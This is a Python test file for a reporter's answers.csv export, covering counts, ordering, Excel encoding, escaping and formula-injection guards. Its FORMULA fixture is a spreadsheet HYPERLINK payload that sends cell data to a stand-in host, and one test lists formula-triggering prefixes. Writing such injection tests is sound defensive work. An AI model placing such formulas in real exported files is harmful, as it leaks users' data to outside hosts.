"""answers.csv: every row in every setting, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from tests.unit.reporter.rendering import Rendered

from so8t_reporter.answers import ANSWERS_FILE, HEADER, answers_csv, harmless
from so8t_reporter.inputs import ReportInputs
from so8t_shared.results.training import LabeledRow, RowTurn

FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"open")'


def _read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _with_texts(inputs: ReportInputs, *texts: str) -> ReportInputs:
    rows = [row.model_copy(update={"text": texts[i % len(texts)]}) for i, row in enumerate(inputs.test_rows)]
    return replace(inputs, test_rows=rows)


def test_counts_are_those_of_the_comparisons(inputs: ReportInputs) -> None:
    """One line a row, quantization and scoring; what became of the rows adds up to each comparison's counts."""
    lines = _read(answers_csv(inputs))
    assert len(lines) == len(inputs.test_rows) * 3 * 2
    for c in inputs.evaluation.comparisons:
        outcomes = [x["outcome"] for x in lines if (x["quantization"], x["scoring"]) == (c.quantization, c.scoring)]
        counted = [outcomes.count(name) for name in ("both right", "lost", "gained", "both wrong")]
        assert counted == [c.both_right, c.only_a_right, c.only_b_right, c.both_wrong]


def test_each_line_is_its_row(inputs: ReportInputs) -> None:
    """Text, class, language and category are the row's own, the answers those of the samples."""
    rows = {row.id: row for row in inputs.test_rows}
    said = {(s.model, s.quantization, s.scoring, s.row_id): s.predicted for s in inputs.samples}
    for line in _read(answers_csv(inputs)):
        row, setting = rows[line["row_id"]], (line["quantization"], line["scoring"], line["row_id"])
        assert [line[name] for name in ("text", "gold", "language", "category")] == [
            row.text, row.label, row.language, row.category,
        ]  # fmt: skip
        assert [line["a"], line["b"]] == [said[side, *setting] for side in ("a", "b")]  # type: ignore[index]


def test_order(inputs: ReportInputs) -> None:
    """The setting of the headline comes first, then the others from the most precise on."""
    lines = _read(answers_csv(inputs))
    assert list(dict.fromkeys((x["quantization"], x["scoring"]) for x in lines)) == [
        (quantization, scoring) for quantization in ("q4_k_m", "f16", "q8_0") for scoring in ("generate", "constrained")
    ]


def test_japanese_opens_in_excel(inputs: ReportInputs) -> None:
    """The file begins with the mark by which Excel knows UTF-8, and lines end as RFC 4180 has it."""
    data = answers_csv(inputs)
    assert data.startswith(b"\xef\xbb\xbfrow_id,")
    assert data.split(b"\r\n")[0].decode("utf-8-sig") == ",".join(HEADER)
    assert "契約書" in data.decode("utf-8")


@pytest.mark.parametrize("begin", [*"=+-@＝＋－＠", " =", "\t=", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(inputs: ReportInputs, begin: str) -> None:
    """A cell that a spreadsheet would compute stands behind an apostrophe; nothing else is changed."""
    text = f"{begin}1+1"
    lines = _read(answers_csv(_with_texts(inputs, text, "1 = 1", "'quoted'", "")))
    assert {line["text"] for line in lines} == {f"'{text}", "1 = 1", "'quoted'", ""}


def test_every_column_is_guarded(inputs: ReportInputs) -> None:
    """Not only the text: a row's language and category come from outside as well."""
    rows = [row.model_copy(update={"language": FORMULA, "category": FORMULA}) for row in inputs.test_rows]
    line = _read(answers_csv(replace(inputs, test_rows=rows)))[0]
    assert line["language"] == line["category"] == harmless(FORMULA) == f"'{FORMULA}"


def test_separators_in_a_text(inputs: ReportInputs) -> None:
    """Quotes, commas and line breaks of a text come back as they were."""
    text = 'first "line", then\r\nanother\nand\u2028one more;'
    assert {line["text"] for line in _read(answers_csv(_with_texts(inputs, text)))} == {text}


def test_no_thinking(inputs: ReportInputs) -> None:
    """A row's thinking parts are for training; they never reach a file for people."""
    secret = "nobody should read this"
    rows = [row.model_copy(update={"thinking": {"task": secret}}) for row in inputs.test_rows]
    assert secret.encode() not in answers_csv(replace(inputs, test_rows=rows))
    assert "thinking" in LabeledRow.model_fields


def test_turns(inputs: ReportInputs) -> None:
    """The turns before the request stand in one cell, by role; an assistant's thinking is not among them."""
    turns = [
        RowTurn(role="system", content="You guard a bank."),
        RowTurn(role="user", content="Hello"),
        RowTurn(role="assistant", content="<think>nobody should read this</think>Hi."),
    ]
    rows = [row.model_copy(update={"turns": turns if i else []}) for i, row in enumerate(inputs.test_rows)]
    lines = {line["row_id"]: line["turns"] for line in _read(answers_csv(replace(inputs, test_rows=rows)))}
    assert lines.pop(rows[0].id) == ""
    assert set(lines.values()) == {"system: You guard a bank.\nuser: Hello\nassistant: Hi."}


def test_row_from_elsewhere(inputs: ReportInputs) -> None:
    """A row that the test split does not hold keeps its id and its answers; its text is empty."""
    lines = _read(answers_csv(replace(inputs, test_rows=[])))
    assert {(line["text"], line["language"], line["category"]) for line in lines} == {("", "", "")}
    assert {len(line["row_id"]) for line in lines} == {16}


def test_both_reports_link_it(rendered: Rendered, sparse_rendered: Rendered) -> None:
    """It lies beside both reports under the name by which they link it, also where nothing changed."""
    for one in (rendered, sparse_rendered):
        assert (one.folder / ANSWERS_FILE).is_file()
        assert '<a href="answers.csv">answers.csv</a>' in one.text("report.html")
        assert "[answers.csv](answers.csv): every test row" in one.text("report.md")


def test_what_was_said(inputs: ReportInputs) -> None:
    """The lenient classes and the kept words stand beside the classes, and are guarded like every cell."""
    samples = [s.model_copy(update={"text": f"{FORMULA} {s.model}", "lenient": "DENY"}) for s in inputs.samples]
    for line in _read(answers_csv(replace(inputs, samples=samples))):
        assert (line["a_lenient"], line["b_lenient"]) == ("DENY", "DENY")
        assert (line["a_wrote"], line["b_wrote"]) == (f"'{FORMULA} a", f"'{FORMULA} b")


def test_groups(inputs: ReportInputs) -> None:
    """A row's group is there to sort by; a row that stands alone is its own."""
    first = inputs.samples[0].row_id
    samples = [s.model_copy(update={"group": "template-7"}) if s.row_id == first else s for s in inputs.samples]
    found = {line["row_id"]: line["group"] for line in _read(answers_csv(replace(inputs, samples=samples)))}
    assert found.pop(first) == "template-7"
    assert all(row_id == group for row_id, group in found.items())
